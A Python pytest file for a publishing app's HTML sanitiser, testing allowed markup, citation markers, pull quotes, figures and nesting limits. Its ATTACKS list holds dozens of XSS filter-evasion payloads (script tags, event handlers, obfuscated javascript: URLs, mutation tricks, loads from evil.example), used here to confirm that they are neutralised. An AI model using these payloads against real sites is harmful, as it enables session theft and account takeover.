"""The one allow-list: what gets through, what does not, and that no word is lost on the way."""

import re
import time
from html import escape
from xml.etree import ElementTree

import pytest
from django.utils.html import format_html
from django.utils.safestring import SafeString
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from publishing import rendering
from publishing.rendering import BodyRefused, Note, Use, clean, is_empty, markers, plain_text, render_body

# What browsers run or load of its own accord, in the many ways of writing it. Sources: the OWASP filter evasion cheat
# sheet, DOMPurify's list of mutations, and what the libraries used here once let through.
ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</script>",
    "<SCRIPT/XSS SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onclick='alert(1)'>x</p>",
    "<p onclick\n=alert(1)>x</p>",
    "<p/onmouseover=alert(1)>x",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&#1;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#14;  javascript:alert(1)'>x</a>",
    "<a href='java\x01script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='javascript&#58;alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='blob:https://example.org/x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='x' target=_blank onclick=alert(1) ping='https://evil.example'>x</a>",
    '<sup data-cite="1" data-passage=\'"><script>alert(1)</script>\'></sup>',
    '<sup data-cite="1" onclick="alert(1)" style="x" id="ref-1" class="marker"></sup>',
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<a href='https://example.org/' title='\" onmouseover=alert(1) x=\"'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
]

ALLOWED_ON_THE_PAGE = rendering.ALLOWED_TAGS | {"span"}


def own_notes(text, count):
    """Return a note of its own for each of `count` markers."""
    return [Note(text, (Use(index, text),)) for index in range(count)]


def assert_harmless(html, tags=rendering.ALLOWED_TAGS):
    """Assert, by another parser than the cleaner's, that nothing but known tags and attributes is there."""
    for element in lxml_html.fragment_fromstring(html, create_parent="div").iterdescendants():
        assert element.tag in tags
        for name, value in element.attrib.items():
            assert not name.startswith("on")
            assert name in {"href", "title", "hreflang", "start", "colspan", "rowspan", "scope", "id", "class"} | {
                "aria-label",
                "aria-hidden",
                "tabindex",
            } or name.startswith("data-")
            if name == "href":
                scheme = re.match(r"[\x00-\x20]*([^/?#:]*):", value)
                assert scheme is None or scheme[1].lower() in rendering.ALLOWED_SCHEMES


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_harmless_and_the_words_beside_them_stay(attack):
    cleaned = clean(f"<p>before</p>{attack}")
    assert_harmless(cleaned)
    assert "before" in plain_text(cleaned)
    assert_harmless(render_body(cleaned, own_notes("a note", len(markers(cleaned)))).html, ALLOWED_ON_THE_PAGE)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_inside_a_passage_stay_text(attack):
    cleaned = clean(f'<p>words<sup data-cite="1" data-passage="{escape(attack)}"></sup></p>')
    assert_harmless(cleaned)
    assert lxml_html.fragment_fromstring(cleaned).text_content() == "words"


def test_a_marker_keeps_a_passage_with_markup_as_the_words_it_is():
    passage = 'so-called <b>"peace"</b> & “order”'
    cleaned = clean(
        f'<p>x<sup data-cite="7" data-locator="4" data-label="page" data-passage="{escape(passage)}"></sup></p>'
    )
    assert markers(cleaned) == [rendering.Marker(source="7", locator="4", label="page", passage=passage)]


@pytest.mark.parametrize(
    "href",
    [
        "https://example.org/a?b=1&c=2#d",
        "http://example.org",
        "mailto:press@example.org",
        "tel:+37410123456",
        "/press/some-release/",
        "#note",
        "https://example.org/ճանապարհ",
        "notes/2024:05/index.html",
    ],
)
def test_links_that_a_release_may_have_stay_as_they_are(href):
    cleaned = clean(f'<p><a href="{escape(href)}">link</a></p>')
    assert lxml_html.fragment_fromstring(cleaned).find(".//a").get("href") == href


def test_numbers_of_tables_and_lists_are_small_numbers_or_gone():
    cleaned = clean(
        '<ol start="3"><li>x</li></ol><ol start="1e9"><li>y</li></ol>'
        '<table><tbody><tr><td colspan="2" rowspan="99999999">z</td>'
        '<th scope="col">h</th><th scope="x">h</th></tr></tbody></table>'
    )
    assert 'start="3"' in cleaned
    assert "1e9" not in cleaned
    assert 'colspan="2"' in cleaned
    assert "rowspan" not in cleaned
    assert cleaned.count("scope") == 1


def test_all_that_the_editor_makes_survives():
    html = (
        "<h2>Two</h2><h3>Three</h3><h4>Four</h4><p><strong>bold</strong> <em>italic</em> H<sub>2</sub>O m<sup>2</sup>"
        '<br>and <a href="https://example.org/">a link</a></p><ul><li><p>one</p><ul><li><p>two</p></li></ul></li></ul>'
        '<ol start="4"><li><p>four</p></li></ol><blockquote><p>quoted</p></blockquote><hr>'
        '<table><tbody><tr><th><p>head</p></th></tr><tr><td colspan="2"><p>cell</p></td></tr></tbody></table>'
    )
    assert clean(html) == html


def test_pasted_office_markup_leaves_only_its_words():
    pasted = (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal {margin:0}</style>'
        "<title>Report.docx</title></head><body lang=EN-US>"
        '<p class=MsoNormal style="margin-bottom:0cm"><span lang=EN-GB style="font-family:Times">The <b>river</b>'
        '<o:p></o:p></span></p><font color="red">is ours</font></body></html>'
    )
    assert clean(pasted) == "<p>The river</p>is ours"


# --- Characters ---


def test_special_characters_of_the_author_stay():
    text = "“Curly” ‘quotes’ – dash — and … thin\u202fspace, no\u2011break hyphen, soft\u00adhyphen, Հայերեն, 日本, 🕊️"
    assert plain_text(clean(f"<p>{text}</p>")) == text


def test_non_breaking_spaces_stay_and_are_not_made_of_others():
    cleaned = clean("<p>10\u00a0km and  two spaces</p>")
    assert cleaned == "<p>10&nbsp;km and  two spaces</p>"
    assert plain_text(cleaned) == "10\u00a0km and two spaces"


def test_right_to_left_text_keeps_its_letters_and_direction_marks():
    text = "قال \u2067المتحدث\u2069 (2024)\u200f: النهر لنا"
    cleaned = clean(f'<p>{text}<sup data-cite="1" data-passage="النهر لنا"></sup></p>')
    assert plain_text(cleaned) == text
    assert markers(cleaned)[0].passage == "النهر لنا"


@pytest.mark.parametrize(
    "junk", ["\x00", "\x01", "\x0b", "\x1f", "\x7f", "\ud800", "\ufffe", "\uffff", "&#1;", "&#x1f;"]
)
def test_characters_that_feeds_cannot_hold_are_dropped(junk):
    cleaned = clean(f'<p>a{junk}b<sup data-cite="1" data-passage="c{junk}d"></sup></p>')
    assert plain_text(cleaned) == "ab"
    assert markers(cleaned)[0].passage == "cd"
    ElementTree.fromstring(f"<feed>{escape(cleaned)}</feed>")


def test_line_ends_of_browsers_are_one_kind():
    assert clean("<p>a\r\nb\rc</p>") == "<p>a\nb\nc</p>"


def test_entities_are_characters():
    assert plain_text(clean("<p>&ldquo;A&rdquo; &amp; &lt;b&gt; &copy; &#8212; &hellip;</p>")) == "“A” & <b> © — …"


# --- Markers ---


def test_a_marker_holds_no_words_and_no_other_marker():
    cleaned = clean('<p>a<sup data-cite="1">[1]<sup data-cite="2">2</sup><em>x</em></sup> b</p>')
    assert cleaned == '<p>a<sup data-cite="1"></sup> b</p>'


def test_a_marker_that_is_not_closed_keeps_the_following_paragraphs():
    cleaned = clean('<p>a<sup data-cite="1"></p><p>b</p>')
    assert len(markers(cleaned)) == 1
    assert plain_text(cleaned) == "a\nb"


MARKER = '<sup data-cite="1" data-locator="4" data-passage="x"></sup>'


@pytest.mark.parametrize(
    ("sent", "stored"),
    [
        (MARKER * 3, MARKER),
        (f"{MARKER} \n {MARKER}", MARKER),
        (f"{MARKER}, {MARKER}", f"{MARKER}, {MARKER}"),
        (f'{MARKER}<sup data-cite="1" data-locator="5" data-passage="x"></sup>', None),
        (f'{MARKER}<sup data-cite="2" data-locator="4" data-passage="x"></sup>', None),
        (f"<strong>{MARKER}</strong>{MARKER}", None),
    ],
)
def test_a_marker_pasted_twice_in_one_place_is_there_once(sent, stored):
    assert clean(f"<p>a{sent} b</p>") == f"<p>a{stored or sent} b</p>"


def test_a_marker_says_how_it_is_used_and_through_which_works():
    cleaned = clean(
        '<p>x<sup data-cite="7" data-mode=" Paraphrase" data-via=" 8\n 9 " data-via-label="page" data-via-locator="38"></sup>'
        '<sup data-cite="5" data-mode="verbatim" data-via-locator="4"></sup></p>'
    )
    assert cleaned == (
        '<p>x<sup data-cite="7" data-mode="paraphrase" data-via="8 9" data-via-label="page" data-via-locator="38"></sup>'
        '<sup data-cite="5"></sup></p>'
    )
    through, plain = markers(cleaned)
    assert (through.mode, through.via, through.via_locator, through.via_label) == (
        "paraphrase",
        ("8", "9"),
        "38",
        "page",
    )
    assert (plain.mode, plain.via) == ("verbatim", ())
    assert through.keys == ("7", "8", "9")
    assert clean('<p><sup data-cite="1" data-mode="&lt;b&gt;" data-via=" "></sup></p>') == (
        '<p><sup data-cite="1"></sup></p>'
    )


def test_words_taken_from_a_work_that_is_gone_lose_their_marker_too():
    html = '<p>a<sup data-cite="1" data-via="2 3"></sup> b<sup data-cite="4"></sup></p>'
    assert rendering.without_markers(html, ["3"]) == '<p>a b<sup data-cite="4"></sup></p>'
    assert rendering.without_markers(html, ["5"]) == html


def test_a_superscript_is_no_marker_and_keeps_its_text():
    assert clean("<p>m<sup>2</sup></p>") == "<p>m<sup>2</sup></p>"
    assert markers("<p>m<sup>2</sup></p>") == []


def test_a_marker_in_a_link_is_moved_behind_it_since_links_hold_no_links():
    cleaned = clean(
        '<p><a href="/x">so <em>it</em><sup data-cite="1"></sup> is</a>, we<sup data-cite="2"></sup> say</p>'
    )
    assert (
        cleaned == '<p><a href="/x">so <em>it</em> is</a><sup data-cite="1"></sup>, we<sup data-cite="2"></sup> say</p>'
    )
    note = SafeString('<a href="/sources/x/">source</a>')
    page = lxml_html.fragment_fromstring(render_body(cleaned, own_notes(note, 2)).html)
    assert page.xpath(".//a//a") == []


@pytest.mark.parametrize(
    "html",
    [
        "<h2>Head{}</h2>",
        "<ul><li>item{}</li></ul>",
        "<blockquote><p>said{}</p></blockquote>",
        "<table><tbody><tr><td>cell{}</td></tr></tbody></table>",
        "<p><strong>bold{}</strong></p>",
        "{}",
    ],
)
def test_markers_are_found_and_rendered_wherever_text_may_stand(html):
    cleaned = clean(html.format('<sup data-cite="5"></sup>'))
    assert [marker.source for marker in markers(cleaned)] == ["5"]
    rendered = render_body(cleaned, own_notes("The note", 1))
    assert 'id="ref-1"' in rendered.html
    assert 'href="#note-1"' in rendered.html
    assert 'id="note-1"' in rendered.notes
    assert 'href="#ref-1"' in rendered.notes


def test_readers_get_numbered_markers_in_reading_order_with_notes_that_lead_back():
    body = clean("".join(f'<p>Words {n}<sup data-cite="{n}"></sup> and more.</p>' for n in range(1, 301)))
    words = [format_html('Note {} <a href="/s/{}/">source</a>', n, n) for n in range(1, 301)]
    notes = [Note(text, (Use(index, text),)) for index, text in enumerate(words)]
    rendered = render_body(body, notes)
    page = lxml_html.fragment_fromstring(rendered.html, create_parent="div")
    listed = lxml_html.fragment_fromstring(rendered.notes)
    numbers = [str(n) for n in range(1, 301)]
    assert [link.text for link in page.xpath(".//a[@class='marker']")] == numbers
    assert [link.get("id") for link in page.xpath(".//a[@class='marker']")] == [f"ref-{n}" for n in numbers]
    assert [item.get("id") for item in listed.xpath("./li")] == [f"note-{n}" for n in numbers]
    assert [link.get("href") for link in listed.xpath(".//a[@class='back']")] == [f"#ref-{n}" for n in numbers]
    # Assistive technology and the keyboard find each link once, in the list.
    assert {link.get("tabindex") for link in page.xpath(".//*[@aria-hidden='true']//a")} == {"-1"}


def test_markers_without_their_notes_are_an_error_not_nothing():
    with pytest.raises(ValueError, match="1 markers"):
        render_body('<p>x<sup data-cite="1"></sup></p>', [])
    with pytest.raises(ValueError, match="0 markers"):
        render_body("<p>x</p>", own_notes("note", 1))


def test_markers_that_share_a_note_have_letters_and_each_its_way_back():
    body = clean("".join(f'<p>Words {n}<sup data-cite="{n}"></sup>.</p>' for n in range(30)))
    shared = Note(
        SafeString("<b>Shared</b>"), tuple(Use(n, SafeString(f"short {n}"), f"p. {n} <") for n in range(1, 30))
    )
    rendered = render_body(body, [Note(SafeString("Alone"), (Use(0, SafeString("Alone")),)), shared])
    page = lxml_html.fragment_fromstring(rendered.html, create_parent="div")
    links = page.xpath(".//a[@class='marker']")
    assert [link.text for link in links] == ["1"] + ["2"] * 29
    assert [links[n].get("id") for n in (0, 1, 2, 26, 27, 28)] == [
        *("ref-1", "ref-2-a", "ref-2-b", "ref-2-z", "ref-2-aa", "ref-2-ab")
    ]
    assert links[27].get("href") == "#note-2-aa"
    assert links[27].get("aria-label") == "Note 2, place aa"
    assert page.xpath(".//*[@class='margin-note']")[27].text_content() == "2 short 27"
    listed = lxml_html.fragment_fromstring(rendered.notes)
    assert len(listed.xpath("./li")) == 2
    uses = listed.xpath(".//li[@id='note-2']//*[@class='use']")
    assert [use.get("id") for use in uses] == [link.get("href")[1:] for link in links[1:]]
    assert [use.xpath("./a")[0].get("href") for use in uses] == [f"#{link.get('id')}" for link in links[1:]]
    assert uses[26].xpath("./a")[0].get("aria-label") == "Back to place aa of note 2 in the text"
    assert uses[26].text_content() == "aa p. 27 <"


def test_a_marker_with_two_notes_or_a_note_for_no_marker_is_an_error():
    for uses in ((0, 0), (1,), (0, 1)):
        with pytest.raises(ValueError, match="1 markers"):
            render_body('<p>x<sup data-cite="1"></sup></p>', [Note(SafeString("n"), (Use(n, "n"),)) for n in uses])


def test_a_notes_markup_is_escaped_unless_it_is_safe():
    rendered = render_body('<p>x<sup data-cite="1"></sup></p>', own_notes("<script>alert(1)</script>", 1))
    assert "<script" not in rendered.html
    assert "<script" not in rendered.notes


# --- Pull quotes ---


@pytest.mark.parametrize(
    ("quoted", "text"),
    [
        ("“We stay!”", "“We stay,” said Nor Arda."),
        ("We <em>stay</em>", "They said: we stay."),
        ("we stay", "First we <strong>stay</strong>"),
    ],
)
def test_a_pull_quote_that_repeats_the_text_is_for_the_eye_alone(quoted, text):
    body = clean(f'<blockquote data-pull="x" class="y"><p>{quoted}</p></blockquote><p>{text}</p>')
    assert body.startswith('<blockquote data-pull="">')
    rendered = render_body(body).html
    assert rendered.startswith('<aside class="pull-quote" aria-hidden="true">')
    assert plain_text(body) == lxml_html.fragment_fromstring(f"<p>{text}</p>").text_content()
    assert "aside" not in rendering.for_feed(rendered, "", "https://example.org/")


@pytest.mark.parametrize(
    ("quoted", "text"),
    [
        ("We stay", "We stayed."),
        ("Nowhere else", "Other words."),
        ('We stay<sup data-cite="1"></sup>', "We stay."),
        ('We <a href="/press/">stay</a>', "We stay."),
    ],
)
def test_a_pull_quote_with_words_of_its_own_is_a_quotation_for_everybody(quoted, text):
    body = clean(f'<blockquote data-pull=""><p>{quoted}</p></blockquote><p>{text}</p>')
    rendered = render_body(body, own_notes("note", len(markers(body)))).html
    assert rendered.startswith('<blockquote class="pull-quote"><p>')
    assert "<aside" not in rendered
    assert len(plain_text(body).split("\n")) == 2


def test_two_equal_pull_quotes_do_not_vouch_for_each_other():
    body = '<blockquote data-pull=""><p>Only here</p></blockquote>' * 2
    assert plain_text(body) == "Only here\nOnly here"
    assert "<aside" not in render_body(body).html


# --- Pictures, calls to action, videos ---

PICTURE = '<figure data-picture="12" data-caption="A &quot;dam&quot; &amp; 3 &gt; 2"></figure>'
VIDEO = '<figure data-video="https://vimeo.com/76979871" data-title="A film"></figure>'
ACTION = '<div data-action="7"></div>'


def test_what_is_placed_is_stored_in_one_shape_and_read_back():
    html = f"<p>a</p>{PICTURE}<p>b</p>{ACTION}{VIDEO}"
    assert clean(html) == html
    assert rendering.placed(html) == [
        rendering.Placed(rendering.Kind.PICTURE, "12", 'A "dam" & 3 > 2'),
        rendering.Placed(rendering.Kind.ACTION, "7"),
        rendering.Placed(rendering.Kind.VIDEO, "https://vimeo.com/76979871", "A film"),
    ]
    assert plain_text(html) == 'a\nA "dam" & 3 > 2\nb\nA film'
    assert not is_empty(ACTION)
    assert render_body(html).html.count("data-") == 5


@pytest.mark.parametrize(
    ("sent", "stored"),
    [
        # What names nothing is unwrapped, and its words stay.
        ("<div>words</div>", "words"),
        ("<figure><p>words</p></figure>", "<p>words</p>"),
        ('<figure data-caption="x" data-title="y">words</figure>', "words"),
        ('<figure data-picture="0">words</figure>', "words"),
        ('<figure data-picture="-1">words</figure>', "words"),
        ('<figure data-picture="12x">words</figure>', "words"),
        ('<figure data-picture="1234567890123456789">words</figure>', "words"),
        ('<div data-action="٧">words</div>', "words"),
        ('<div data-picture="7">words</div>', "words"),
        ('<figure data-action="7">words</figure>', "words"),
        ('<figure data-video="http://vimeo.com/76979871">words</figure>', "words"),
        ('<figure data-video="javascript:alert(1)">words</figure>', "words"),
        ('<figure data-video="https://www.youtube.com/@channel">words</figure>', "words"),
        # Attributes of others go.
        (
            '<figure class="x" title="t" data-picture="5" data-title="no" data-caption=" a \n b "></figure>',
            '<figure data-picture="5" data-caption="a b"></figure>',
        ),
        ('<div lang="hy" data-action="7" data-caption="no"></div>', ACTION),
        (
            '<figure data-video="https://youtu.be/aqz-KE-bpKQ" data-picture="5"></figure>',
            '<figure data-picture="5"></figure>',
        ),
        ('<figure data-picture="5" data-caption=" "></figure>', '<figure data-picture="5"></figure>'),
        # What is inside comes behind; what is inside others comes behind those.
        (f"{ACTION[:-6]}words<p>more</p></div>end", f"{ACTION}words<p>more</p>end"),
        (f"<ul><li>a{ACTION}b</li></ul>c", f"<ul><li>ab</li></ul>{ACTION}c"),
        (f"<blockquote><p>a</p>{PICTURE}</blockquote>", f"<blockquote><p>a</p></blockquote>{PICTURE}"),
        (f'<a href="/x">a{ACTION}b</a>', f'<a href="/x">ab</a>{ACTION}'),
        (f'<h2>a<sup data-cite="1">{ACTION}</sup></h2>', f'<h2>a<sup data-cite="1"></sup></h2>{ACTION}'),
        (f"<p>a{PICTURE}b", f"<p>a</p>{PICTURE}b"),
        (
            f"<table><tbody><tr><td>{ACTION}a{VIDEO}</td></tr></tbody></table>",
            f"<table><tbody><tr><td>a</td></tr></tbody></table>{ACTION}{VIDEO}",
        ),
    ],
)
def test_whatever_else_is_sent_is_brought_into_that_shape_or_taken_away(sent, stored):
    assert clean(sent) == stored
    assert clean(stored) == stored


def test_filling_puts_html_in_the_place_of_each_and_nothing_where_there_is_none():
    body = render_body(f"x<p>a</p>{PICTURE}t &lt;<p>b</p>{ACTION}").html
    filled = rendering.fill(body, lambda one: format_html("<b>{}</b>", one.words))
    assert filled == "x<p>a</p><b>A &quot;dam&quot; &amp; 3 &gt; 2</b>t &lt;<p>b</p><b></b>"
    assert rendering.fill(body, lambda one: SafeString("")) == "x<p>a</p>t &lt;<p>b</p>"
    plain = "<p>a &nbsp; b</p>"
    assert rendering.fill(plain, lambda one: SafeString("")) == plain


# --- Plain text ---


def test_plain_text_is_the_words_without_markers_one_line_a_block():
    body = '<p>“A claim”<sup data-cite="1">x</sup>, he said.</p><p>Second<br>line</p>'
    assert plain_text(body) == "“A claim”, he said.\nSecond\nline"


def test_plain_text_parts_blocks_that_follow_bare_words():
    assert plain_text("<ul><li>one<ul><li>two</li></ul>three</li></ul>") == "one\ntwo\nthree"
    assert plain_text("bare<p>block</p>tail") == "bare\nblock\ntail"
    assert plain_text("<table><tbody><tr><td>a</td><td>b</td></tr></tbody></table>") == "a\nb"


def test_plain_text_folds_line_ends_and_skips_comments_and_instructions():
    assert plain_text("<p>a\n  b<!-- no --> c<?php no ?> d</p>") == "a b c d"


@pytest.mark.parametrize(
    "html", ["", " ", "<p></p>", "<p> </p>", "<p>&nbsp;</p>", "<p><br></p>", "<p></p><p></p>", "<h2></h2><hr>"]
)
def test_an_editor_left_empty_is_empty(html):
    assert is_empty(clean(html))


@pytest.mark.parametrize("html", ["<p>.</p>", "x", '<p><sup data-cite="1"></sup></p>'])
def test_a_word_or_a_marker_is_something(html):
    assert not is_empty(clean(html))


# --- Limits ---


@pytest.mark.parametrize("tag", ["blockquote", "em", "div", "ul", "table", "sup", "x-y"])
@pytest.mark.parametrize("count", [300, 10_000, 200_000])
def test_huge_nesting_is_refused_with_words_instead_of_a_crash_or_a_cut(tag, count):
    with pytest.raises(BodyRefused, match="inside each other"):
        clean(f"<{tag}>" * count + "deep" + f"</{tag}>" * count + "<p>after</p>")


def test_foreign_end_tags_do_not_hide_nesting():
    with pytest.raises(BodyRefused):
        clean("<blockquote></nonsense>" * 10_000)


def test_deep_lists_that_people_could_write_lose_nothing():
    html = "<ul><li><p>level</p>" * 20 + "</li></ul>" * 20
    assert plain_text(clean(html)).count("level") == 20


def test_many_paragraphs_that_nobody_closed_are_no_nesting():
    assert plain_text(clean("<p>x" * 5_000)).count("x") == 5_000


def test_ten_times_the_text_takes_about_ten_times_as_long():
    paragraph = '<p>Words and <em>more</em> of <a href="https://example.org/">them</a><sup data-cite="1"></sup>.</p>'

    def seconds(count):
        best = []
        for _ in range(3):
            start = time.process_time()
            clean(paragraph * count)
            best.append(time.process_time() - start)
        return min(best)

    # 300 KB against 30 KB; growth with the square would be a hundred times.
    assert seconds(3_000) < 30 * seconds(300)


# --- Any input ---

PIECES = st.sampled_from(
    [
        *(f"<{tag}>" for tag in sorted(rendering.ALLOWED_TAGS)),
        *(f"</{tag}>" for tag in sorted(rendering.ALLOWED_TAGS)),
        '<sup data-cite="1" data-passage="a &lt;b&gt; &quot;">',
        "<sup data-cite='2'></sup>",
        '<a href="https://example.org/?a=1&amp;b=ü">',
        '<a href="javascript:alert(1)">',
        '<figure data-picture="12" data-caption="A &lt;b&gt; &quot;">',
        '<figure data-video="https://youtu.be/aqz-KE-bpKQ?t=5" data-title="x">',
        '<div data-action="7">',
        '<blockquote data-pull="">',
        "<figcaption>",
        "<div>",
        "</div>",
        "<b>",
        "</b>",
        "<script>",
        "</script>",
        "<svg>",
        "</svg>",
        "<template>",
        "<!--",
        "-->",
        "<![CDATA[",
        "&lt;",
        "&amp;amp;",
        "&nbsp;",
        "<",
        ">",
        "&",
        '"',
        "'",
        "\n",
        "\r",
        "\x00",
        "\x0c",
    ]
)
SOUP = st.lists(PIECES | st.text(max_size=6), max_size=30).map("".join)


def cleaned_or_refused(html):
    try:
        return clean(html)
    except BodyRefused:
        return None


@settings(max_examples=60)
@given(SOUP)
@example("<table><p>x<table><a>y")
@example("<a><p><a>x</a></p></a>")
@example("<sup data-cite='1'><table><td>x")
def test_cleaning_what_is_clean_changes_nothing(html):
    cleaned = cleaned_or_refused(html)
    if cleaned is not None:
        assert clean(cleaned) == cleaned
        assert_harmless(cleaned)


@settings(max_examples=60)
@given(SOUP)
def test_readers_get_the_words_that_were_stored(html):
    cleaned = cleaned_or_refused(html)
    if cleaned is None:
        return
    notes = own_notes("note", len(markers(cleaned)))
    rendered = lxml_html.fragment_fromstring(render_body(cleaned, notes).html, create_parent="div")
    for element in rendered.xpath(".//span[@class='cited']"):
        element.drop_tree()
    without_markers = re.sub(r"<sup data-cite[^>]*></sup>", "", cleaned)
    stored = lxml_html.fragment_fromstring(without_markers, create_parent="div")
    assert rendered.text_content() == stored.text_content()


@settings(max_examples=60)
@given(st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"), min_size=1))
def test_any_text_typed_as_a_paragraph_is_stored_character_for_character(text):
    cleaned = clean(f"<p>{escape(text)}</p>")
    assert lxml_html.fragment_fromstring(cleaned).text_content() == "".join(
        c for c in text if not "\ufdd0" <= c <= "\ufdef"
    )
